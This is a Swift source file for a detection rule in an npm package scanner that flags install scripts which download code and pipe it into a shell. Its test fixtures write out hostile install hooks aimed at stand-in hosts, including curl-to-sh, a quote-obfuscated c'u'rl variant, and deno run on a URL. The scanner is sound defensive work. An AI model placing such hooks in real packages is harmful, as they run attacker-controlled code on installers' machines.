// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// Something that runs at install pipes a download straight into a shell or interpreter.
package struct PipedInstallDownload: Rule {
    package init() {}

    package let card = RuleCard(
        id: "piped-install-download", kind: .content, title: "Install runs what it downloads", severity: .critical, confidence: .high,
        status: .stable, revision: 3, group: "behaviour",
        rationale:
            "The code that runs is not in the tarball, so that no hash and no reviewer covers it, and it can differ by visitor and hour.",
        knownFalseAlarms: ["A wrapper that installs another tool by that tool's own one-line installer."],
        references: ["https://docs.npmjs.com/cli/using-npm/scripts"],
        fires: [
            RuleSample(
                "curl into sh",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl -s http://a.test/x | sh"}}"#])),
            RuleSample(
                "by the path of the shell, with quotation marks inside the word",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"c'u'rl -s http://a.test/x | /bin/sh"}}"#])
            ),
            RuleSample(
                "another runtime told to run an address",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"deno run -A https://a.test/x.ts"}}"#])),
            RuleSample(
                "inside a file that install runs",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}"#,
                    "setup.js": #"require('child_process').execSync('curl -fsSL https://run.example/install | bash')"#,
                ])),
        ],
        staysSilent: [
            RuleSample(
                "native build", .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}}"#])),
            RuleSample(
                "advice in the read-me",
                .sample(["package.json": #"{"name":"a","version":"1.0.0"}"#, "README.md": "curl -s https://a.example/x | sh"])),
            RuleSample(
                "only a comment says so",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                    "i.js": "// Never do this: curl http://a.test/x | sh\nmodule.exports = 1;",
                ])),
            RuleSample(
                "a fallback, not a pipe",
                .sample(["package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"prebuild-install || node-gyp rebuild"}}"#])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        for shell in facts.nearShells {
            for act in shell.facts.acts {
                guard let title = Self.title(act) else { continue }
                return [finding(title, [facts.evidence(act, in: shell)])]
            }
        }
        // Texts that JavaScript builds in ways that are not followed.
        for file in facts.nearInstallFiles where file.scan?.allSigns.contains(.pipesIntoShell) == true {
            guard InstallTrace.dialect(file, program: "") == nil, !file.isDocumentary,
                let place = facts.uncommented(.pipesIntoShell, in: file)
            else {
                continue
            }
            return [finding("Install downloads a script and runs it at once", [file.evidence(place)])]
        }
        return []
    }

    /// `nil` for what is no such act. Packages from a repository are npm's own way of installing.
    private static func title(_ act: ShellAct) -> String? {
        switch act.kind {
        case .runsDownload where !act.isThroughFile: "Install downloads a script and runs it at once"
        case .runsAddress where act.subject.contains("://") && !act.subject.hasPrefix("git"): "Install runs code straight from an address"
        default: nil
        }
    }

    private func finding(_ title: String, _ evidence: [Evidence]) -> Finding {
        card.finding(
            title, evidence: evidence, meaning: "What runs on the machine is decided by whoever controls that address at that moment.")
    }
}
